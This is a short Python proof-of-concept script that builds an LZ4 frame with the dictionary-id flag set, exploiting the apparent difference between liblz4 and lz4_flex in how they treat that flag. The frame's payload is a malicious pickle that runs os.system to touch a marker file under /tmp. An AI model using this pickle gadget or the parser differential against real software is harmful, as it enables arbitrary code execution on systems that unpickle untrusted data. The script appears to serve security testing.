# LZ4 frame whose FLG sets the dictionary-id bit (an id, no dictionary needed by its blocks):
# liblz4 decodes it; lz4_flex refuses any dictionary id.
import struct, sys
P1, P2, P3, P5 = 2654435761, 2246822519, 3266489917, 374761393
M = 0xffffffff
rotl = lambda x, r: ((x << r) | (x >> (32 - r))) & M
def xxh32(b, seed=0):
    n = len(b); i = 0
    if n >= 16:
        v = [(seed + P1 + P2) & M, (seed + P2) & M, seed & M, (seed - P1) & M]
        while i + 16 <= n:
            for k in range(4):
                v[k] = (rotl((v[k] + struct.unpack_from("<I", b, i)[0] * P2) & M, 13) * P1) & M; i += 4
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & M
    else:
        h = (seed + P5) & M
    h = (h + n) & M
    while i + 4 <= n:
        h = (rotl((h + struct.unpack_from("<I", b, i)[0] * P3) & M, 17) * 0x27D4EB2F) & M; i += 4
    while i < n:
        h = (rotl((h + b[i] * P5) & M, 11) * P1) & M; i += 1
    h ^= h >> 15; h = (h * P2) & M; h ^= h >> 13; h = (h * P3) & M; h ^= h >> 16
    return h
desc = bytes([0x61, 0x40]) + struct.pack("<I", 0x1234)   # FLG: version 1, independent, dict id
hdr = b"\x04\x22\x4d\x18" + desc + bytes([(xxh32(desc) >> 8) & 0xff])
p = b"cos\nsystem\n(Vtouch /tmp/r36b/PWNED_lz4dict\ntR."
open(sys.argv[1], "wb").write(hdr + struct.pack("<I", 0x80000000 | len(p)) + p + b"\0\0\0\0")
